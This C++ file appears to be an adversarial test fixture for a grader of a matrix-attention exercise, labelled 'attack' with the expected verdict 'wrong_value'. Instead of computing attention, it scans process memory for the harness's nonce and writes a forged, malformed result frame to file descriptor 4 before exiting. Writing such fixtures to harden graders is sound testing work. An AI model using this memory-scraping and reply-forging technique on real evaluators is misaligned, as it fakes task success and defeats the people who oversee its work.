// attack: sends a well-formed reply whose steps have impossible shapes and endless names
// verdict: wrong_value

#include "matrix_attention.hpp"

#include <link.h>
#include <unistd.h>

#include <cstdint>
#include <cstdio>
#include <string>

namespace softmark {
namespace {

/// Appends the bytes of one number.
template <class T>
void put(std::string& bytes, T number) {
  bytes.append(reinterpret_cast<const char*>(&number), sizeof number);
}

/// The harness keeps its reply in static storage: nonce, kind 1, an empty std::string.
std::uint64_t nonce_in_memory() {
  std::uint64_t nonce = 0;
  dl_iterate_phdr(
      [](dl_phdr_info* info, std::size_t, void* found) {
        for (int i = 0; i < info->dlpi_phnum; ++i) {
          const ElfW(Phdr)& part = info->dlpi_phdr[i];
          if (part.p_type != PT_LOAD || (part.p_flags & PF_W) == 0) continue;
          const ElfW(Addr) start = (info->dlpi_addr + part.p_vaddr + 7) / 8 * 8;
          const auto* word = reinterpret_cast<const std::uint64_t*>(start);
          for (const auto* end = word + part.p_memsz / 8 - 8; word < end; ++word) {
            const bool text = word[2] == reinterpret_cast<std::uintptr_t>(word + 4);
            if (!text || word[3] != 0 || word[1] % 16 != 1 || word[0] >> 32 == 0) continue;
            *static_cast<std::uint64_t*>(found) = word[0];
            return 1;
          }
        }
        return 1;  // the first object is the program itself
      },
      &nonce);
  std::printf("nonce: %s\n", nonce != 0 ? "found" : "not found");
  return nonce;
}

const char* const names[] = {"queries", "keys", "values", "scores", "attention weights"};

}  // namespace

Matrix matrix_attention(const Matrix& X, const Projection&, const Projection&,
                        const Projection& value) {
  std::string frame;
  put(frame, std::uint32_t{0x524d5301});  // magic
  put(frame, nonce_in_memory());
  put(frame, std::uint32_t{1});  // returned
  put(frame, std::uint32_t{0});  // text
  put(frame, std::uint32_t{1});  // one result
  put(frame, std::uint32_t{2});
  put(frame, std::uint64_t{value.omega.shape(0)});
  put(frame, std::uint64_t{X.shape(1)});
  const std::size_t size = value.omega.shape(0) * X.shape(1);
  put(frame, std::uint64_t{size});
  for (std::size_t i = 0; i < size; ++i) put(frame, i % 2 == 0 ? 5e-324 : 1.7e308);
  put(frame, std::uint32_t{1024});
  for (int step = 0; step < 1024; ++step) {
    const std::string name = step < 5 ? names[step] : std::string(4000, "\x1b\n"[step % 2]);
    put(frame, static_cast<std::uint32_t>(name.size()));
    frame += name;
    put(frame, std::uint32_t{8});
    for (int axis = 0; axis < 8; ++axis) put(frame, std::uint64_t{1} << (step % 2 == 0 ? 63 : 32));
    put(frame, std::uint64_t{0});
  }
  std::size_t sent = 0;
  while (sent < frame.size()) {
    const ssize_t count = write(4, frame.data() + sent, frame.size() - sent);
    if (count <= 0) break;
    sent += static_cast<std::size_t>(count);
  }
  if (sent == frame.size()) _exit(0);
  return xt::zeros<double>({value.omega.shape(0), X.shape(1)});
}

}  // namespace softmark
